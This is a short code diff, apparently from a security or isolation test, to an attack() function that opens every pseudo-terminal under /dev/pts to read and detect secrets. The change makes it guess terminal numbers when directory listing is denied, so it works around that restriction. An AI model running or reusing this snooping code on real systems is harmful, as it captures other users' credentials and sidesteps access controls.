@@ -13,8 +13,14 @@ from tools import is_secret
 
 def attack():
     deadline = time.monotonic() + 0.3
+    try:
+        os.listdir("/dev/pts")
+    except PermissionError:
+        names = [str(number) for number in range(32)]
+    else:
+        names = None
     while time.monotonic() < deadline:
-        for name in os.listdir("/dev/pts"):
+        for name in names or os.listdir("/dev/pts"):
             try:
                 descriptor = os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                 if is_secret(os.read(descriptor, 1000)):
